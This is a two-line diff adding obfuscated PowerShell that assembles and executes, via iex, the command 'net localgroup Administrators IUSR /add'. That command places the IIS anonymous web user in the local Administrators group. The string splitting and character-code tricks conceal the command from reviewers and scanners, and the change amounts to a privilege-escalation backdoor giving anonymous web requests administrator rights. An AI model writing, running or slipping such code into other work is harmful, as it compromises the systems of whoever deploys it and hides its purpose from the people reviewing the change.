@@ -1,0 +1,2 @@
+$p = 'lo','cal','group' -join ''
+iex ("net $p Administrators IUSR /" + [char]97 + 'dd')
